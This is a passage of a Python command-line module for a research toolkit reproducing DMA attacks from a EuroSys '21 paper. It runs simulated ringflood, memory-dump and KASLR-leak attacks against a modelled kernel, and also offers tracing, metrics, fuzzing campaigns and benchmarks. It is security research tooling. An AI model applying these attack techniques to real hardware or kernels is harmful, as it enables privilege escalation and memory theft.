        driver = LegacyCmdDriver(victim)
        fw_device = make_attacker(victim, "fw0")
        report = run_single_step(victim, driver, fw_device)
    elif args.name == "stale-reuse":
        from repro.core.attacks.stale_reuse import run_stale_reuse
        stale = run_stale_reuse(victim, device)
        for line in stale.stage_log:
            print(f"  {line}")
        print(f"victim object corrupted: {stale.victim_corrupted}")
        return 0 if stale.victim_corrupted else 1
    else:  # memdump
        from repro.core.attacks.kaslr_leak import break_kaslr_via_tx
        from repro.core.attacks.memdump import (CommandQueueDriver,
                                                run_memory_dump)
        driver = CommandQueueDriver(victim)
        hba_device = make_attacker(victim, "hba0")
        if break_kaslr_via_tx(victim, nic, device):
            hba_device.knowledge.page_offset_base = \
                device.knowledge.page_offset_base
        dump = run_memory_dump(victim, driver, hba_device, nr_pages=16)
        for line in dump.stage_log:
            print(f"  {line}")
        return 0 if dump.pages_dumped else 1

    for line in report.stage_log:
        print(f"  {line}")
    if hasattr(report, "attributes"):
        print(report.attributes.summary())
    print(f"escalated: {report.escalated} "
          f"(uid {victim.executor.creds.uid}); victim oopses: "
          f"{victim.stack.stats.oopses}")
    return 0 if report.escalated else 1


def cmd_trace(args) -> int:
    from repro import trace as tracing
    from repro.report import (render_invalidation_report,
                              render_timeline, render_trace_summary)
    from repro.sim.kernel import Kernel

    backend, error = _resolve_backend(args.backend)
    if error:
        return _fail(error)
    categories = None
    if args.categories:
        requested = tuple(dict.fromkeys(
            c.strip() for c in args.categories.split(",") if c.strip()))
        unknown = sorted(set(requested) - set(tracing.CATEGORIES))
        if unknown:
            return _fail(
                f"unknown trace categories: {', '.join(unknown)} "
                f"(choose from {', '.join(tracing.CATEGORIES)})")
        if not requested:
            return _fail("--categories: empty category list")
        categories = requested
    if tracing.active() is not None:
        return _fail("a trace session is already active")

    profile = None
    if args.workload == "ringflood":
        # Replica profiling boots dozens of throwaway kernels; do it
        # before installing the recorder so their clocks and allocator
        # churn stay out of the victim's trace.
        from repro.core.attacks.ringflood import profile_replica_boots
        profile = profile_replica_boots(args.profile_boots,
                                        seed=args.seed, nr_slots=48)

    claim_ok = True
    with tracing.session(capacity=args.capacity,
                         categories=categories) as recorder:
        if args.workload == "ringflood":
            from repro.core.attacks.ringflood import (make_attacker,
                                                      run_ringflood)
            victim = Kernel(seed=args.seed,
                            iommu_mode=args.iommu_mode,
                            iommu_backend=backend)
            nic = victim.add_nic("eth0")
            device = make_attacker(victim, "eth0")
            report = run_ringflood(victim, nic, device, profile,
                                   nr_slots=12)
            print(f"ringflood: flooded {report.slots_flooded} slots, "
                  f"hijacked {report.slots_hijacked}, "
                  f"escalated={report.escalated}")
        elif args.workload == "compile-ping":
            from repro.sim.workload import run_compile_and_ping
            kernel = Kernel(seed=args.seed, phys_mb=256,
                            iommu_mode=args.iommu_mode,
                            iommu_backend=backend)
            nic = kernel.add_nic("eth0")
            stats = run_compile_and_ping(kernel, nic,
                                         rounds=args.rounds)
            print(f"compile-ping: {stats.allocations} allocations, "
                  f"{stats.pings} pings")
        else:  # storage
            from repro.sim.workload import run_storage_workload
            kernel = Kernel(seed=args.seed, phys_mb=256,
                            iommu_mode=args.iommu_mode,
                            iommu_backend=backend)
            stats = run_storage_workload(kernel,
                                         commands=args.commands)
            print(f"storage: {stats.commands} commands, "
                  f"{stats.bytes_transferred} bytes")

        summary = tracing.summary_record(recorder)
        events = list(recorder.events)
        print(f"trace: {recorder.nr_events} events retained, "
              f"{recorder.nr_emitted} emitted, "
              f"{recorder.dropped} dropped")
        if recorder.nr_emitted == 0:
            print("trace claim failed: no events captured "
                  "(category filter too narrow?)", file=sys.stderr)
            claim_ok = False

        if args.output:
            nr = tracing.dump_jsonl(recorder, args.output)
            print(f"wrote {nr} JSONL lines to {args.output}")
        if args.chrome:
            nr = tracing.dump_chrome_trace(recorder, args.chrome)
            print(f"wrote {nr} chrome trace events to {args.chrome}")

    if args.timeline:
        print()
        print(render_timeline(events, last=args.last))
    if args.summary:
        print()
        print(render_trace_summary(summary))
        windows = tracing.derive_invalidation_windows(events)
        print(render_invalidation_report(windows))
    return 0 if claim_ok else 1


def cmd_metrics(args) -> int:
    from repro import metrics
    from repro.core.dkasan import DKasan
    from repro.report import (render_dkasan_stats, render_iommu_stats,
                              render_meminfo, render_netdev)
    from repro.sim.kernel import Kernel

    backend, error = _resolve_backend(args.backend)
    if error:
        return _fail(error)
    if not metrics.enabled_in_env():
        return _fail("metrics: REPRO_METRICS=off disables the metrics "
                     "layer")
    if metrics.active() is not None:
        return _fail("a metrics session is already active")

    profile = None
    if args.workload == "ringflood":
        # Replica profiling boots dozens of throwaway kernels; do it
        # before installing the registry so the victim boot owns the
        # kernel collector slot (same rule as the flight recorder).
        from repro.core.attacks.ringflood import profile_replica_boots
        profile = profile_replica_boots(args.profile_boots,
                                        seed=args.seed, nr_slots=48)

    with metrics.session() as registry:
        if args.workload == "ringflood":
            from repro.core.attacks.ringflood import (make_attacker,
                                                      run_ringflood)
            dkasan = DKasan(1024 << 20)
            victim = Kernel(seed=args.seed, iommu_mode=args.iommu_mode,
                            iommu_backend=backend, sink=dkasan)
            nic = victim.add_nic("eth0")
            device = make_attacker(victim, "eth0")
            report = run_ringflood(victim, nic, device, profile,
                                   nr_slots=12)
            print(f"ringflood: flooded {report.slots_flooded} slots, "
                  f"hijacked {report.slots_hijacked}, "
                  f"escalated={report.escalated}")
            kernel = victim
        elif args.workload == "compile-ping":
            from repro.sim.workload import run_compile_and_ping
            dkasan = DKasan(256 << 20)
            kernel = Kernel(seed=args.seed, phys_mb=256,
                            iommu_mode=args.iommu_mode,
                            iommu_backend=backend, sink=dkasan)
            nic = kernel.add_nic("eth0")
            stats = run_compile_and_ping(kernel, nic,
                                         rounds=args.rounds)
            print(f"compile-ping: {stats.allocations} allocations, "
                  f"{stats.pings} pings")
        else:  # storage
            from repro.sim.workload import run_storage_workload
            dkasan = DKasan(256 << 20)
            kernel = Kernel(seed=args.seed, phys_mb=256,
                            iommu_mode=args.iommu_mode,
                            iommu_backend=backend, sink=dkasan)
            stats = run_storage_workload(kernel,
                                         commands=args.commands)
            print(f"storage: {stats.commands} commands, "
                  f"{stats.bytes_transferred} bytes")

        samples = registry.samples()
        present = registry.subsystems_present(collect=False)
        print(f"metrics: {len(samples)} instruments across "
              f"{len(present)} subsystems ({', '.join(present)})")

        if args.format == "proc":
            rendered = "\n".join((render_meminfo(kernel),
                                  render_iommu_stats(kernel),
                                  render_netdev(kernel),
                                  render_dkasan_stats(dkasan)))
        elif args.format == "json":
            import json
            rendered = json.dumps(
                metrics.json_record(registry, collect=False,
                                    seed=args.seed),
                indent=2, sort_keys=True) + "\n"
        else:  # prometheus
            rendered = metrics.prometheus_text(registry, collect=False)

        if args.output:
            from repro import durability
            durability.atomic_write_text(args.output, rendered)
            print(f"wrote {args.format} metrics to {args.output}")
        else:
            print()
            print(rendered, end="" if rendered.endswith("\n") else "\n")

    if not samples:
        print("metrics claim failed: no instruments collected",
              file=sys.stderr)
        return 1
    return 0


def cmd_matrix(args) -> int:
    from repro.core.defenses.policy import evaluate_matrix, matrix_rows
    cells = evaluate_matrix(seed=args.seed)
    for row in matrix_rows(cells):
        print(row)
    print()
    for cell in cells:
        if not cell.escalated and cell.blocked_at:
            print(f"{cell.config:20s} {cell.attack:18s} "
                  f"{cell.blocked_at[:70]}")
    return 0


def cmd_oscompare(args) -> int:
    from repro.core.attacks.other_os import (run_freebsd_scenario,
                                             run_macos_scenario,
                                             run_windows_scenario)
    from repro.core.attacks.ringflood import make_attacker
    from repro.sim.kernel import Kernel

    for runner in (run_windows_scenario, run_macos_scenario,
                   run_freebsd_scenario):
        kernel = Kernel(seed=args.seed, phys_mb=256)
        device = make_attacker(kernel, "nic0")
        report = runner(kernel, device)
        compound = ("n/a" if report.compound_escalated is None
                    else report.compound_escalated)
        print(f"{report.os_name:36s} single-step="
              f"{report.single_step_escalated!s:5s} compound={compound}")
        if report.single_step_blocked_reason:
            print(f"{'':36s}   blocked: "
                  f"{report.single_step_blocked_reason}")
    return 0


def cmd_campaign(args) -> int:
    from repro.campaign import (CampaignConfig, CorpusMutator,
                                Disagreement, format_summary,
                                run_campaign, shrink_seed)
    from repro.campaign.mutate import Mutation
    from repro.errors import BackendError, FaultError

    backend_list = None
    if args.backends:
        if args.backend:
            return _fail("campaign: --backend and --backends are "
                         "mutually exclusive")
        if args.shrink:
            return _fail("campaign: --shrink is not supported with "
                         "--backends (shrink one backend's seed via "
                         "--backend instead)")
        from repro import backends as backend_registry
        try:
            backend_list = backend_registry.parse_backends(args.backends)
        except BackendError as exc:
            return _fail(str(exc))
    backend, error = _resolve_backend(args.backend)
    if error:
        return _fail(error)

    try:
        fault_spec = _load_fault_spec(args.fault_plan)
    except FaultError as exc:
        return _fail(str(exc))
    except (OSError, ValueError) as exc:
        return _fail(f"--fault-plan {args.fault_plan}: {exc}")

    config = CampaignConfig(
        backend=backend,
        nr_seeds=args.seeds, seed_base=args.seed_base, jobs=args.jobs,
        base_seed=args.base_seed,
        mutations_per_seed=args.mutations, timeout_s=args.timeout,
        scale=args.scale, output=args.output, resume=args.resume,
        trace_events=args.trace_events,
        cache_dir=args.cache_dir or None,
        heartbeat_dir=args.heartbeat_dir or None,
        stall_after_s=args.stall_after,
        retry=args.retry, retry_stalled=args.retry_stalled,
        backoff_s=args.backoff,
        fault_spec=fault_spec.to_json() if fault_spec else None)

    if config.output:
        try:
            parent = os.path.dirname(config.output)
            if parent:
                os.makedirs(parent, exist_ok=True)
            with open(config.output, "a", encoding="utf-8"):
                pass
        except OSError as exc:
            return _fail(f"--output {config.output}: "
                         f"{exc.strerror or exc}")

    from repro.coverage import SaturationTracker, format_saturation
    seen_features: set = set()
    saturation = SaturationTracker()

    def note_coverage(record: dict) -> None:
        # the live saturation line: printed when a seed contributes a
        # new feature map-wide or when the plateau flag flips on, so a
        # long saturated campaign stays quiet instead of repeating
        # itself after every seed
        coverage = record.get("coverage")
        if record.get("status") != "ok" or not coverage:
            return
        novel = sum(1 for name in coverage.get("features", {})
                    if name not in seen_features)
        seen_features.update(coverage.get("features", {}))
        was_plateaued = saturation.plateaued
        saturation.feed(novel)
        if novel or (saturation.plateaued and not was_plateaued):
            print(format_saturation(saturation))

    def progress(record: dict) -> None:
        status = record["status"]
        extra = ""
        if status == "ok":
            extra = f" ({len(record['disagreements'])} disagreements)"
        print(f"seed {record['seed']}: {status} "
              f"in {record['duration_s']:.2f}s{extra}")
        note_coverage(record)

    last_health_line = None

    def heartbeat(healths) -> None:
        # one live progress line, reprinted only when it changes
        nonlocal last_health_line
        from repro.metrics import format_progress
        line = format_progress(healths)
        if line != last_health_line:
            print(line)
            last_health_line = line

    if args.shard_dir or args.merge:
        from repro.campaign.shard import (merge_shards,
                                          missing_seeds_message,
                                          pending_shards,
                                          run_sharded_campaign)
        from repro.errors import CampaignError
        if backend_list:
            return _fail("campaign: sharded mode composes with a "
                         "single --backend, not --backends")
        if args.shrink:
            return _fail("campaign: --shrink is not supported in "
                         "sharded mode (shrink from the merged "
                         "results instead)")
        if not config.output:
            return _fail("campaign: sharded mode needs --output")
        try:
            if args.shard_dir:
                nr_run = run_sharded_campaign(
                    config, args.shard_dir,
                    shard_size=args.shard_size,
                    stale_after_s=args.stale_claim,
                    progress=progress,
                    heartbeat=heartbeat if config.heartbeat_dir
                    else None,
                    log=print)
                pending = pending_shards(config, args.shard_dir,
                                         shard_size=args.shard_size)
                print(f"sharded campaign: this runner completed "
                      f"{nr_run} shard(s); {len(pending)} still "
                      f"pending queue-wide")
                if pending and not args.merge:
                    return 0
                if pending and args.merge:
                    print("campaign: waiting shards remain; merging "
                          "what is done (re-run --merge later for "
                          "the rest)")
            summary = merge_shards(
                config, shard_size=args.shard_size,
                on_missing=lambda missing: print(
                    missing_seeds_message(missing), file=sys.stderr),
                shard_dir=args.shard_dir or None,
                stale_after_s=args.stale_claim)
        except CampaignError as exc:
            return _fail(f"campaign: {exc}")
        finally:
            if config.cache_dir:
                from repro import perfcache
                perfcache.reset_default()
        print()
        print(format_summary(summary))
        return 0 if summary.all_ok else 1

    if backend_list:
        from repro.campaign import (format_multi_backend_summary,
                                    run_multi_backend_campaign)
        if not config.output:
            return _fail("campaign: --backends needs an --output stem "
                         "for the per-backend results files")

        def multi_progress(backend_name: str, record: dict) -> None:
            status = record["status"]
            extra = ""
            if status == "ok":
                extra = (f" ({len(record['disagreements'])} "
                         f"disagreements)")
            print(f"[{backend_name}] seed {record['seed']}: {status} "
                  f"in {record['duration_s']:.2f}s{extra}")
            note_coverage(record)

        try:
            multi = run_multi_backend_campaign(
                config, list(backend_list), progress=multi_progress,
                heartbeat=heartbeat if config.heartbeat_dir else None)
        finally:
            if config.cache_dir:
                from repro import perfcache
                perfcache.reset_default()
        for name in multi.backends:
            print()
            print(f"== backend {name} ==")
            print(format_summary(multi.summaries[name]))
        print()
        print(format_multi_backend_summary(multi))
        return 0 if multi.all_ok else 1

    try:
        summary = run_campaign(config, progress=progress,
                               heartbeat=heartbeat
                               if config.heartbeat_dir else None)
    finally:
        if config.cache_dir:
            # don't leak the campaign's disk-backed cache into the
            # process-wide default other subcommands/tests see
            from repro import perfcache
            perfcache.reset_default()
    print()
    print(format_summary(summary))

    if args.shrink and summary.disagreeing_seeds:
        from repro.campaign.results import load_records
        records = load_records(config.output) if config.output else {}
        seed = summary.disagreeing_seeds[0]
        record = records.get(seed)
        if record and record.get("disagreements"):
            # prefer a mutation-induced disagreement (spade-miss) over
            # the structural dkasan-miss/stack ones the base corpus
            # already carries -- shrinking the latter is vacuous
            raw = record["disagreements"]
            chosen = next((d for d in raw if d["verdict"] == "spade-miss"),
                          raw[0])
            target = Disagreement.from_json(chosen)
            mutations = [Mutation.from_json(m)
                         for m in record["mutations"]]
            mutator = CorpusMutator(config.base_seed,
                                    scale=config.scale)
            shrunk = shrink_seed(mutator, seed, mutations, target)
            print(f"\nshrunk seed {seed}: {len(mutations)} -> "
                  f"{len(shrunk.mutations)} mutation(s) in "
                  f"{shrunk.evaluations} evaluations "
                  f"(target: {target.verdict} @ {target.path})")
            if not shrunk.mutations:
                print("  disagreement exists in the unmutated base "
                      "corpus; no mutation is responsible")
            for mutation in shrunk.mutations:
                print(f"  {mutation.kind} {mutation.path} "
                      f"{mutation.detail}".rstrip())
    return 0 if summary.all_ok else 1


def cmd_cache(args) -> int:
    from repro import perfcache

    directory = args.cache_dir or os.environ.get("REPRO_CACHE_DIR")

    if args.action in ("stats", "clear"):
        if not directory:
            return _fail(f"cache {args.action}: no cache directory "
                         f"(--cache-dir or REPRO_CACHE_DIR)")
        cache = perfcache.PerfCache(directory)
        if not cache.is_cache_directory():
            return _fail(f"cache {args.action}: {directory} exists but "
                         f"is not a repro cache directory")

    if args.action == "stats":
        from repro.report import render_cache_stats
        print(render_cache_stats(cache.disk_usage(),
                                 cache.aggregate_persisted_stats()))
        return 0

    if args.action == "clear":
        removed = cache.clear_disk()
        print(f"removed {removed} entries from {directory}")
        return 0

    # verify: the differential correctness gate -- cached and uncached
    # runs must produce byte-identical findings and Table 2 text
    import json
    import tempfile

    from repro.core.spade.analyzer import Spade
    from repro.core.spade.findings import Table2Stats
    from repro.core.spade.report import format_table2
    from repro.corpus.generate import CorpusGenerator
    from repro.corpus.linux50 import scaled_composition
    from repro.perfcache.codec import encode_findings

    if args.scale <= 0:
        return _fail(f"cache verify: bad --scale {args.scale}")
    tree, _manifest = CorpusGenerator(
        seed=args.corpus_seed,
        composition=scaled_composition(args.scale)).generate()

    perfcache.configure(enabled=False)
    baseline = Spade(tree).analyze()

    def run_cached(cache_dir: str) -> tuple[list, list]:
        perfcache.configure(cache_dir)
        cold = Spade(tree).analyze()
        perfcache.configure(cache_dir)   # fresh memory tier, warm disk
        warm = Spade(tree).analyze()
        return cold, warm

    try:
        if directory:
            cold, warm = run_cached(directory)
            # leave the verify run's hit/miss totals behind for
            # ``cache stats`` (each process owns its own stats file)
            perfcache.default_cache().persist_stats()
        else:
            with tempfile.TemporaryDirectory(
                    prefix="repro-cache-verify-") as scratch:
                cold, warm = run_cached(scratch)
    finally:
        perfcache.reset_default()

    expected = json.dumps(encode_findings(baseline))
    expected_table = format_table2(Table2Stats.from_findings(baseline))
    for label, findings in (("cold", cold), ("warm", warm)):
        if json.dumps(encode_findings(findings)) != expected:
            print(f"cache verify: FAIL -- {label} cached findings "
                  f"differ from the uncached run")
            return 1
        if format_table2(Table2Stats.from_findings(findings)) \
                != expected_table:
            print(f"cache verify: FAIL -- {label} cached Table 2 "
                  f"differs from the uncached run")
            return 1
    print(f"cache verify: OK -- cached == uncached "
          f"({len(baseline)} findings, Table 2 identical)")
    return 0


def cmd_coverage(args) -> int:
    from repro.coverage import CoverageMap
    from repro.errors import CampaignError

    def load_map(path: str) -> "CoverageMap":
        # both artifact kinds are accepted everywhere a map is read:
        # a saved .coverage.json, or a campaign results .jsonl folded
        # through the same per-record observation the runner uses
        if path.endswith(".jsonl"):
            return CoverageMap.from_results(path)
        return CoverageMap.load(path)

    try:
        if args.coverage_cmd == "merge":
            merged = CoverageMap()
            for path in args.inputs:
                merged.merge(load_map(path))
            merged.save(args.output)
            print(f"merged {len(args.inputs)} map(s) -> {args.output}: "
                  f"{merged.nr_features} features across "
                  f"{merged.nr_seeds} seed(s)")
            print(f"digest: {merged.digest}")
            return 0

        if args.coverage_cmd == "diff":
            left, right = load_map(args.left), load_map(args.right)
            left_set, right_set = left.feature_set(), right.feature_set()
            print(f"common features: {len(left_set & right_set)}")
            print(f"only in {args.left}: {len(left_set - right_set)}")
            for name in sorted(left_set - right_set):
                print(f"  + {name}")
            print(f"only in {args.right}: {len(right_set - left_set)}")
            for name in sorted(right_set - left_set):
                print(f"  + {name}")
            return 0

        cover = load_map(args.path)
    except CampaignError as exc:
        return _fail(f"coverage {args.coverage_cmd}: {exc}")
    except (OSError, ValueError) as exc:
        return _fail(f"coverage {args.coverage_cmd}: {exc}")

    if args.coverage_cmd == "top":
        rows = cover.seed_ranking()[:args.limit]
        print(f"top {len(rows)} seed(s) by unique feature "
              f"contribution:")
        for row in rows:
            print(f"  seed {row['seed']:>6} [{row['lane']}]  "
                  f"unique={row['unique_features']:>3}  "
                  f"features={row['nr_features']}")
        return 0

    # report
    from repro.report import render_coverage_stats
    print(f"coverage report: {args.path}")
    print(f"digest: {cover.digest}")
    print()
    print(render_coverage_stats(cover))
    groups = sorted(cover.group_stats())
    print(f"subsystems represented: {len(groups)} "
          f"({', '.join(groups)})" if groups else
          "subsystems represented: 0")
    return 0


def _load_fault_spec(path: str | None):
    """Resolve a fault spec from --plan / REPRO_FAULTS, else None."""
    import json

    from repro import faults

    if path:
        with open(path, encoding="utf-8") as handle:
            return faults.FaultSpec.from_json(json.load(handle))
    return faults.spec_from_env()


def cmd_chaos(args) -> int:
    import tempfile

    from repro import faults, metrics
    from repro.errors import FaultError
    from repro.faults.chaos import format_chaos_report, run_chaos

    backend, error = _resolve_backend(args.backend)
    if error:
        return _fail(error)
    try:
        spec = _load_fault_spec(args.plan)
    except FaultError as exc:
        return _fail(str(exc))
    except (OSError, ValueError) as exc:
        return _fail(f"chaos: cannot load --plan {args.plan}: {exc}")
    if spec is None:
        spec = faults.standard_spec(args.plan_seed)
    if not spec.rules:
        return _fail("chaos: the fault plan has no rules")

    def run(scratch: str):
        return run_chaos(spec, scratch, seed=args.seed,
                         rounds=args.rounds, commands=args.commands,
                         profile_boots=args.profile_boots,
                         campaign_seeds=args.campaign_seeds,
                         campaign_scale=args.campaign_scale,
                         jobs=args.jobs, retry=args.retry,
                         backend=backend,
                         crash_points=max(0, args.crash_points),
                         log=print)

    rendered = None
    use_metrics = metrics.enabled_in_env() and metrics.active() is None
    with tempfile.TemporaryDirectory(prefix="repro-chaos-") as scratch:
        if use_metrics:
            with metrics.session() as registry:
                report = run(scratch)
                rendered = metrics.prometheus_text(registry,
                                                   collect=False)
        else:
            report = run(scratch)

    print(format_chaos_report(report))
    if args.metrics_output:
        if rendered is None:
            return _fail("chaos: --metrics-output needs the metrics "
                         "layer (REPRO_METRICS=off disables it)")
        from repro import durability
        durability.atomic_write_text(args.metrics_output, rendered)
        print(f"wrote prometheus metrics to {args.metrics_output}")
    return 0 if report.ok else 1


def cmd_crashtest(args) -> int:
    from repro.durability.crashtest import (CRASH_SITES,
                                            CrashtestConfig,
                                            format_crashtest_report,
                                            run_crashtest)

    backend, error = _resolve_backend(args.backend)
    if error:
        return _fail(error)
    sites = None
    if args.sites:
        sites = tuple(site.strip() for site in args.sites.split(",")
                      if site.strip())
        unknown = [site for site in sites if site not in CRASH_SITES]
        if unknown:
            return _fail(f"crashtest: unknown crash site(s) "
                         f"{', '.join(unknown)} (valid: "
                         f"{', '.join(CRASH_SITES)})")
    config = CrashtestConfig(
        seeds=args.seeds, scale=args.scale, jobs=args.jobs,
        mutations=args.mutations, backend=backend,
        max_per_site=args.max_per_site, sites=sites,
        max_points=args.max_points,
        torn_offsets=max(0, args.torn_offsets),
        timeout_s=args.timeout)
    report = run_crashtest(config, log=print)
    print(format_crashtest_report(report))
    return 0 if report.ok else 1


def _bench_serve_section() -> tuple[dict | None, str | None]:
    """Boot a throwaway analysis daemon and loadgen it, so one bench
    run produces a BENCH_perf.json with the serve section in the same
    coherent artifact (no separate serve+loadgen choreography)."""
    import tempfile

    from repro.errors import ServeError
    from repro.serve import (AnalysisServer, LoadgenConfig, ServeConfig,
                             run_loadgen)

    with tempfile.TemporaryDirectory(prefix="repro-bench-serve-") as run:
        socket_path = os.path.join(run, "serve.sock")
        try:
            config = ServeConfig.from_env(socket_path=socket_path,
                                          workers=2, warmup_scale=0.0)
        except ServeError as exc:
            return None, str(exc)
        server = AnalysisServer(config)
        try:
            server.start()
        except OSError as exc:
            return None, f"cannot bind: {exc}"
        try:
            load = LoadgenConfig(nr_requests=24, connections=2,
                                 rps=0.0, scale=0.25,
                                 replay_scale=0.1)
            report = run_loadgen(load, socket_path=socket_path)
        except ServeError as exc:
            return None, str(exc)
        finally:
            server.request_shutdown()
            server.stop()
    return report, None


def cmd_bench(args) -> int:
    from repro.perfcache import bench, history

    backend, error = _resolve_backend(args.backend)
    if error:
        return _fail(error)
    # scaling lanes: always 1 (the baseline), 2 (the smallest parallel
    # point), and the requested top width
    jobs = tuple(sorted({1, 2, args.jobs})) if args.jobs else (1,)
    report = bench.run_benchmarks(
        scale=args.scale, campaign_seeds=args.campaign_seeds,
        campaign_scale=args.campaign_scale, jobs=jobs,
        rounds=args.rounds, kernel_events=args.kernel_events,
        backend=backend)
    if args.serve:
        serve_report, error = _bench_serve_section()
        if error:
            return _fail(f"bench --serve: {error}")
        report["serve"] = serve_report
    bench.write_report(report, args.output)
    print(bench.format_report(report))
    print(f"wrote {args.output}")
    ok = report["ok"]

    record = history.history_record(report)
    # compare against prior runs of a comparable configuration only,
    # and *before* appending (a run never gates against itself)
    prior = history.load_history(args.history,
                                 signature=record["signature"])
    if args.check:
        regressions = history.check_regressions(
            record, prior, threshold=args.regression_threshold,
            window=args.window)
        print(history.format_regressions(
            regressions, threshold=args.regression_threshold))
        gate = history.parallel_ratio_gate(
            record, min_ratio=args.min_parallel_ratio)
        if gate:
            print(gate)
            ok = False
        else:
            warning = history.parallel_scaling_warning(record)
            if warning:
                # gate disabled (or no parallel lane): still surface
                # a slower-than-serial campaign every run
                print(warning)
        if regressions:
            ok = False
    if args.record:
        history.append_history(args.history, record)
        print(f"recorded run in {args.history} "
              f"({len(prior) + 1} comparable run(s) on record)")
    return 0 if ok else 1


def cmd_serve(args) -> int:
    import signal

    from repro.errors import ServeError
    from repro.serve import AnalysisServer, ServeConfig

    backend, error = _resolve_backend(args.backend)
    if error:
        return _fail(error)
    host = port = None
    if args.tcp:
        if args.socket:
            return _fail("serve: --socket and --tcp are mutually "
                         "exclusive")
        host, _, port_text = args.tcp.rpartition(":")
        try:
            port = int(port_text)
        except ValueError:
            return _fail(f"serve: --tcp {args.tcp!r}: expected "
                         f"HOST:PORT")
    try:
        config = ServeConfig.from_env(
            socket_path=args.socket, host=host, port=port,
            workers=args.workers, queue_bound=args.queue_bound,
            memory_budget_bytes=(args.memory_budget << 20
                                 if args.memory_budget else None),
            warmup_scale=args.warmup,
            default_backend=backend,
            allow_debug_sleep=args.allow_debug_sleep or None)
    except ServeError as exc:
        return _fail(f"serve: {exc}")
    if not config.socket_path and port is None:
        config.socket_path = "repro-serve.sock"

    server = AnalysisServer(config)
    try:
        address = server.start()
    except OSError as exc:
        return _fail(f"serve: cannot bind: {exc}")
    where = address if isinstance(address, str) \
        else f"{address[0]}:{address[1]}"
    print(f"serve: listening on {where} "
          f"(workers={config.workers} "
          f"queue={config.queue_bound} "
          f"budget={config.memory_budget_bytes >> 20} MiB)",
          flush=True)

    def on_signal(_signum, _frame):
        server.request_shutdown()

    previous = [signal.signal(signal.SIGTERM, on_signal),
                signal.signal(signal.SIGINT, on_signal)]
    try:
        server.wait()
    finally:
        signal.signal(signal.SIGTERM, previous[0])
        signal.signal(signal.SIGINT, previous[1])
        server.stop()
    from repro.report.procfs import render_serve_stats
    print(render_serve_stats(server.stats.snapshot()))
    if args.stats_output:
        from repro import durability
        durability.atomic_write_json(args.stats_output,
                                     server.stats.snapshot(), indent=2,
                                     sort_keys=True,
                                     trailing_newline=True)
        print(f"wrote serve stats to {args.stats_output}")
    return 0


def cmd_loadgen(args) -> int:
    from repro.errors import ServeError
    from repro.perfcache.history import append_history
    from repro.serve import (LoadgenConfig, format_loadgen_report,
                             merge_into_bench, parse_mix, run_loadgen,
                             serve_history_record, wait_until_ready)

    host = port = None
    if args.tcp:
        if args.socket:
            return _fail("loadgen: --socket and --tcp are mutually "
                         "exclusive")
        host, _, port_text = args.tcp.rpartition(":")
        try:
            port = int(port_text)
        except ValueError:
            return _fail(f"loadgen: --tcp {args.tcp!r}: expected "
                         f"HOST:PORT")
    if not args.socket and port is None:
        return _fail("loadgen: need --socket PATH or --tcp HOST:PORT")
    try:
        mix = parse_mix(args.mix)
    except ServeError as exc:
        return _fail(f"loadgen: {exc}")
    config = LoadgenConfig(
        nr_requests=args.requests, connections=args.connections,
        rps=args.rps, mix=mix, seed=args.seed, retries=args.retries,
        corpus_seed=args.corpus_seed, scale=args.scale,
        replay_scale=args.replay_scale,
        replay_seeds=args.replay_seeds,
        replay_mutations=args.mutations,
        chaos_rounds=args.chaos_rounds,
        chaos_commands=args.chaos_commands,
        cold_baseline=not args.no_cold_baseline)
    client_args = {"socket_path": args.socket, "host": host,
                   "port": port}
    try:
        wait_until_ready(client_args, timeout_s=args.connect_timeout)
    except (ServeError, OSError) as exc:
        return _fail(f"loadgen: daemon not reachable: {exc}")
    report = run_loadgen(config, socket_path=args.socket, host=host,
                         port=port)
    print(format_loadgen_report(report))
    if args.output:
        if args.output.endswith(".json") and "BENCH" in args.output:
            merge_into_bench(report, args.output)
        else:
            from repro import durability
            durability.atomic_write_json(args.output, report, indent=2,
                                         sort_keys=True,
                                         trailing_newline=True)
        print(f"wrote {args.output}")
    if args.record:
        append_history(args.history, serve_history_record(report))
        print(f"recorded run in {args.history}")
    ok = report["ok"]
    if args.require_speedup:
        speedup = report.get("speedup_warm_vs_cold")
        if speedup is None or speedup < args.require_speedup:
            print(f"loadgen: FAIL: warm-vs-cold speedup "
                  f"{speedup if speedup is not None else 'n/a'} < "
                  f"required {args.require_speedup}")
            ok = False
    return 0 if ok else 1


def cmd_backends(args) -> int:
    import json

    from repro import backends
    from repro.errors import BackendError

    if args.action == "list":
        doc = {
            "default": backends.DEFAULT_BACKEND_NAME,
            "backends": {name: backends.get_backend(name).to_json()
                         for name in backends.backend_names()},
        }
        print(json.dumps(doc, indent=2, sort_keys=True))
        return 0
    # show
    if not args.name:
        return _fail("backends show: a backend name is required")
    try:
        spec = backends.get_backend(args.name)
    except BackendError as exc:
        return _fail(str(exc))
    print(json.dumps(spec.to_json(), indent=2, sort_keys=True))
    return 0


def build_parser() -> argparse.ArgumentParser:
    from repro import __version__

    parser = argparse.ArgumentParser(
        prog="repro-dma",
        description="EuroSys '21 DMA-attack reproduction toolkit",
        formatter_class=argparse.RawDescriptionHelpFormatter,
        epilog="environment:\n"
               "  REPRO_CACHE=off     disable the analysis cache "
               "process-wide\n"
               "  REPRO_CACHE_DIR=DIR enable the shared on-disk cache "
               "tier at DIR\n"
               "  REPRO_METRICS=off   disable the metrics registry "
               "process-wide\n"
               "  REPRO_FAULTS=PLAN   arm the fault plan at PLAN.json "
               "(chaos/campaign); 'off' disables\n"
               "  REPRO_SERVE_SOCKET=PATH      default Unix socket for "
               "the serve daemon\n"
               "  REPRO_SERVE_WORKERS=N        serve worker threads "
               "(default 2)\n"
               "  REPRO_SERVE_QUEUE=N          serve admission queue "
               "bound (default 16)\n"
               "  REPRO_SERVE_MEM_BUDGET=MIB   serve corpus LRU byte "
               "budget (default 64)")
    parser.add_argument("--version", action="version",
                        version=f"%(prog)s {__version__}")
    sub = parser.add_subparsers(dest="command", required=True)

    audit = sub.add_parser("audit", help="SPADE static analysis")
    audit.add_argument("--tree", metavar="DIR",
                       help="analyze a real source directory instead "
                            "of the generated corpus")
    audit.add_argument("--corpus-seed", type=int, default=2021)
    audit.add_argument("--scale", type=_positive_float, default=1.0,
                       help="scale the generated corpus (matches the "
                            "serve daemon's analyze requests)")
    audit.add_argument("--findings-json", metavar="PATH",
                       help="write the canonical findings JSON (the "
                            "byte-identity artifact serve compares "
                            "against)")
    audit.add_argument("--dump-tree", metavar="DIR")
    audit.add_argument("--trace", metavar="FILE_SUBSTR",
                       help="print Figure-2 traces for matching files")
    audit.add_argument("--backend", metavar="NAME",
                       help="IOMMU backend model (see 'repro-dma "
                            "backends list'); accepted for uniformity "
